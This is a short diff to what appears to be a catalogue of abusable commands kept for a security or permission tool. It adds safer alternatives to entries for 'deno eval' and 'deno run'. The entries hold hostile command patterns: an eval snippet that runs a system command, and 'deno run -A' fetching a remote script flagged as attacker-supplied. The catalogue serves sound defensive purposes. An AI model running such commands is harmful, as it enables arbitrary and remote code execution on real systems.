@@ -16,12 +16,14 @@ export default (): readonly Program[] => [
   {
     prefix: 'deno eval',
     powers: [{ can: 'exec', words: `'new Deno.Command("id").outputSync()'`, purpose: true }],
+    rather: ['deno run scripts/build.ts'],
     source: ['docs:deno'],
     confidence: 'medium',
   },
   {
     prefix: 'deno run',
     powers: [{ can: 'exec', words: '-A https://example.com/x.ts', purpose: true, needs: 'attacker-file', seen: true }],
+    instead: ['deno run scripts/build.ts'],
     source: ['docs:deno'],
     confidence: 'medium',
   },
